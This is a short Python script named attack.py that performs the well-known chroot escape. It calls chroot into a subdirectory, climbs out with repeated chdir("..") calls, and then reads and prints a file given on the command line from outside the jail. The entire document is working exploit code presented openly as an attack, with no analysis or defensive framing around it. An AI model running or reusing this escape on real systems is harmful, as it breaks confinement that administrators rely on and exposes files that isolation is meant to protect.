"""The way out of a chroot that chroot(2) describes itself: attack.py FILE, from the top."""

import os
import sys

# More steps up than any path has; ".." in a root is the root itself.
FAR_UP = 64


def second_root() -> str:
    """Put the root below the working directory; give what the kernel said to that."""
    try:
        os.makedirs("below", exist_ok=True)
        os.chroot("below")
    except OSError as error:
        return f"chroot again: {error.strerror}"
    return "chroot again: done"


print(second_root())
for _ in range(FAR_UP):
    os.chdir("..")
try:
    with open(sys.argv[1]) as file:
        print(f"outside: {file.read().strip()}")
except OSError as error:
    print(f"outside: {error.strerror}")
